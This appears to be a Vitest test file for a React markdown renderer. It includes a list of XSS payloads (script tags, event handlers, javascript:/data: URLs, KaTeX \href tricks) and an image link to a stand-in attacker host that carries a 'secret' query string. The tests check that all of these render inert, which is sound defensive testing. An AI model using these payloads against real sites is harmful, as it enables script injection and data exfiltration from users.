import { act, cleanup, screen, waitFor, within } from "@testing-library/react";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { preloadHighlighter } from "../highlight/highlighter-loader.ts";
import { preloadMath } from "../math/math-loader.ts";
import { renderWithI18n } from "../test/render-with-i18n.tsx";
import { MarkdownContent } from "./markdown-content.tsx";

beforeAll(async () => {
  await Promise.all([preloadMath(), preloadHighlighter("python", "ts", "js")]);
});

afterEach(() => {
  cleanup();
  vi.useRealTimers();
  vi.restoreAllMocks();
});

const HOSTILE = [
  "<script>window.__pwned = 1</script>",
  '<img src="x" onerror="window.__pwned = 2">',
  '<svg onload="window.__pwned = 3"><circle r="1"/></svg>',
  '<a href="javascript:window.__pwned = 4">raw link</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  "[js link](javascript:window.__pwned=5) [upper](JAVASCRIPT:alert(1)) [vb](vbscript:msgbox(1))",
  "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:alert(1)>",
  "![img](javascript:alert(1)) ![svg](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)",
  "Inline $\\href{javascript:alert(1)}{click}$ and $\\htmlData{foo=bar}{x}$ and $\\url{javascript:alert(1)}$.",
  "$\\includegraphics[height=1em]{https://evil.example/x.png}$ $\\htmlId{pwn}{y}$ $\\htmlStyle{color:red}{z}$",
  "$$\n\\href{javascript:alert(2)}{display}\n$$",
].join("\n\n");

const SAFE_URL = /^(?:https?:|mailto:|[^:]*$)/i;

function expectInert(root: HTMLElement) {
  expect(root.querySelector("script, iframe, object, embed, foreignObject")).toBeNull();
  for (const element of root.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      expect(attribute.name, `<${element.tagName}> ${attribute.name}`).not.toMatch(/^on/i);
      expect(attribute.name).not.toMatch(/^data-foo$/);
      if (/^(?:href|src|xlink:href|action|formaction|srcset)$/i.test(attribute.name)) {
        expect(attribute.value, `<${element.tagName}> ${attribute.name}`).toMatch(SAFE_URL);
      }
    }
  }
  expect(root.querySelector("img")).toBeNull();
  expect((window as { __pwned?: number }).__pwned).toBeUndefined();
}

describe("MarkdownContent: hostile input stays inert", () => {
  it.each([
    ["latex on", true],
    ["latex off", false],
  ])("renders script, handlers, unsafe URLs and KaTeX commands as text (%s)", (_label, latex) => {
    const { container } = renderWithI18n(<MarkdownContent content={HOSTILE} latex={latex} />);
    expectInert(container);
    // Raw HTML is shown as its source text, not dropped silently.
    expect(container.textContent).toContain("<script>window.__pwned = 1</script>");
    expect(container.textContent).toContain('<img src="x" onerror="window.__pwned = 2">');
    // Unsafe links keep their words but are not links.
    expect(screen.getByText("js link").closest("a")).toBeNull();
    expect(screen.getByText("data link").closest("a")).toBeNull();
    expect(container.querySelectorAll("a")).toHaveLength(0);
  });

  it("offers images from another origin as links, so showing a message requests nothing from there", () => {
    const { container } = renderWithI18n(
      <MarkdownContent
        content={"![secret](https://evil.test/p.png?q=secret) ![](//evil.test/x.png) ![local](/files/ok.png)"}
      />,
    );
    const images = container.querySelectorAll("img");
    expect(images).toHaveLength(1);
    expect(images[0]?.getAttribute("src")).toBe("/files/ok.png");
    const links = screen.getAllByTestId("markdown.remote-image");
    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      "https://evil.test/p.png?q=secret",
      "//evil.test/x.png",
    ]);
    expect(links[0]?.textContent).toContain("secret");
    expect(links[1]?.textContent).toContain("//evil.test/x.png");
    expect(links[0]?.getAttribute("rel")).toContain("noreferrer");
  });

  it("renders KaTeX's untrusted commands as error text, not as links or attributes", () => {
    const { container } = renderWithI18n(<MarkdownContent content={HOSTILE} latex />);
    expect(container.querySelectorAll(".katex").length).toBeGreaterThanOrEqual(7);
    expect(container.querySelector("[data-foo], #pwn, [style*='color:red']")).toBeNull();
    expect(container.textContent).toContain("\\href");
  });
});

describe("MarkdownContent: markdown", () => {
  it("renders GFM tables in a focusable scrolling region, task lists and strikethrough", () => {
    const content = "| A | B |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~gone~~ kept";
    const { container } = renderWithI18n(<MarkdownContent content={content} />);
    const region = screen.getByRole("region", { name: "Table" });
    expect(region.tabIndex).toBe(0);
    expect(
      within(region)
        .getAllByRole("columnheader")
        .map((cell) => cell.textContent),
    ).toEqual(["A", "B"]);
    const boxes = screen.getAllByRole("checkbox");
    expect(boxes.map((box) => (box as HTMLInputElement).checked)).toEqual([true, false]);
    expect(boxes.every((box) => (box as HTMLInputElement).disabled)).toBe(true);
    expect(container.querySelector("del")?.textContent).toBe("gone");
  });

  it("opens safe links in a new tab without opener, referrer or follow", () => {
    renderWithI18n(<MarkdownContent content="[docs](https://example.com/a) and <https://example.org>" />);
    const links = screen.getAllByRole("link");
    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      "https://example.com/a",
      "https://example.org",
    ]);
    for (const link of links) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      expect(link).toHaveProperty("textContent", expect.stringContaining("(opens in a new tab)"));
    }
  });

  it("shows plain text with its line breaks when markdown is off", () => {
    const content = "**not bold**\nsecond line\n\n# not a heading <b>x</b>";
    const { container } = renderWithI18n(<MarkdownContent content={content} markdown={false} />);
    const root = screen.getByTestId("markdown.content");
    expect(root.textContent).toBe(content);
    expect(container.querySelector("strong, h1, b")).toBeNull();
  });
});

describe("MarkdownContent: math", () => {
  const content =
    "Inline $e^{i\\pi} + 1 = 0$ and $a^2$.\n\n$$\n\\int_0^1 x^2\\,dx = \\frac{1}{3}\n$$\n\nAfter.";

  it("renders inline and display math with KaTeX when latex is on", () => {
    const { container } = renderWithI18n(<MarkdownContent content={content} latex />);
    expect(container.querySelectorAll(".katex")).toHaveLength(3);
    expect(container.querySelectorAll(".katex-display")).toHaveLength(1);
  });

  it("leaves formulas as their source when latex is off", () => {
    const { container } = renderWithI18n(
      <MarkdownContent content={"A $x_i + y_i$ b\n\n$$\nz_1 * z_2\n$$"} />,
    );
    expect(container.querySelector(".katex, em")).toBeNull();
    expect(container.textContent).toContain("$x_i + y_i$");
    expect(container.textContent).toContain("$$\nz_1 * z_2\n$$");
  });
});

describe("MarkdownContent: code blocks", () => {
  const content = "```python\ndef f(x):\n    return x  # note\n```";

  it("labels the language and highlights the code", () => {
    const { container } = renderWithI18n(<MarkdownContent content={content} />);
    const block = screen.getByTestId("markdown.code-block");
    expect(within(block).getByText("python")).toBeTruthy();
    expect(block.querySelector("code")?.textContent).toBe("def f(x):\n    return x  # note");
    expect(container.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(block.getAttribute("dir")).toBe("ltr");
  });

  it("fetches a language's grammar on first use, showing the code plain until then", async () => {
    renderWithI18n(<MarkdownContent content={"```rs\nfn main() {}\n```"} />);
    const code = screen.getByTestId("markdown.code-block").querySelector("code")!;
    expect(code.textContent).toBe("fn main() {}");
    await waitFor(() => expect(code.querySelector(".hljs-keyword")?.textContent).toBe("fn"));
  });

  it("leaves a language without a grammar plain, under its own label", () => {
    renderWithI18n(<MarkdownContent content={"```brainfuck\n+[->+<]\n```"} />);
    const block = screen.getByTestId("markdown.code-block");
    expect(within(block).getByText("brainfuck")).toBeTruthy();
    expect(block.querySelector("code")?.innerHTML).toBe("+[-&gt;+&lt;]");
  });

  it("labels a fence without a language as plain text", () => {
    renderWithI18n(<MarkdownContent content={"```\nraw\n```"} />);
    expect(within(screen.getByTestId("markdown.code-block")).getByText("Plain text")).toBeTruthy();
  });

  it("copies the code and confirms for 2 seconds", async () => {
    vi.useFakeTimers();
    const writeText = vi.fn(() => Promise.resolve());
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    renderWithI18n(<MarkdownContent content={content} />);
    const button = screen.getByRole("button", { name: "Copy code" });

    await act(async () => {
      button.click();
      await vi.advanceTimersByTimeAsync(0);
    });
    expect(writeText).toHaveBeenCalledWith("def f(x):\n    return x  # note");
    expect(button.getAttribute("aria-label")).toBe("Copied");
    expect(screen.getByRole("status").textContent).toBe("Copied");

    await act(() => vi.advanceTimersByTimeAsync(1999));
    expect(button.getAttribute("aria-label")).toBe("Copied");
    await act(() => vi.advanceTimersByTimeAsync(1));
    expect(button.getAttribute("aria-label")).toBe("Copy code");
  });

  it("says so when the clipboard refuses", async () => {
    const writeText = vi.fn(() => Promise.reject(new Error("denied")));
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    renderWithI18n(<MarkdownContent content={content} />);
    await act(async () => screen.getByRole("button", { name: "Copy code" }).click());
    expect(await screen.findByRole("button", { name: "Copy failed" })).toBeTruthy();
  });
});

describe("MarkdownContent: streaming", () => {
  it("shows an unclosed fence as plain code until it closes", () => {
    const partial = "Intro **bold**\n\n```ts\nconst a: number = 1;\n";
    const { container, rerender } = renderWithI18n(<MarkdownContent content={partial} streaming />);
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    const block = screen.getByTestId("markdown.code-block");
    expect(within(block).getByText("ts")).toBeTruthy();
    expect(block.querySelector("code")?.textContent).toBe("const a: number = 1;");
    expect(block.querySelector(".hljs-keyword")).toBeNull();

    rerender(<MarkdownContent content={`${partial}\`\`\``} streaming />);
    expect(screen.getByTestId("markdown.code-block").querySelector(".hljs-keyword")?.textContent).toBe(
      "const",
    );
  });

  it("shows an unclosed $$ block as its source, then as math once closed", () => {
    const partial = "Text\n\n$$\n\\frac{1}{";
    const { container, rerender } = renderWithI18n(<MarkdownContent content={partial} latex streaming />);
    expect(container.querySelector(".katex")).toBeNull();
    expect(container.textContent).toContain("$$\n\\frac{1}{");

    rerender(<MarkdownContent content={`${partial}2}\n$$`} latex streaming />);
    expect(container.querySelectorAll(".katex-display")).toHaveLength(1);
  });

  it("reveals a burst of many blocks a budget per frame, and a settled message at once", () => {
    vi.useFakeTimers({ toFake: ["requestAnimationFrame", "cancelAnimationFrame"] });
    const paragraphs = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} ${"word ".repeat(60)}`);
    const content = paragraphs.join("\n\n");
    const { container } = renderWithI18n(<MarkdownContent content={content} streaming />);
    const shown = () => container.querySelectorAll("p").length;
    expect(shown()).toBeGreaterThan(0);
    expect(shown()).toBeLessThan(40);
    for (let frame = 0; frame < 40 && shown() < 40; frame++) {
      act(() => {
        vi.advanceTimersToNextFrame();
      });
    }
    expect(shown()).toBe(40);

    cleanup();
    renderWithI18n(<MarkdownContent content={content} />);
    expect(screen.getAllByText(/^Paragraph \d+/)).toHaveLength(40);
  });

  it("renders an unclosed fence as markdown would once the stream has ended", () => {
    renderWithI18n(<MarkdownContent content={"```js\nlet x = 1;"} streaming={false} />);
    expect(screen.getByTestId("markdown.code-block").querySelector(".hljs-keyword")?.textContent).toBe("let");
  });
});
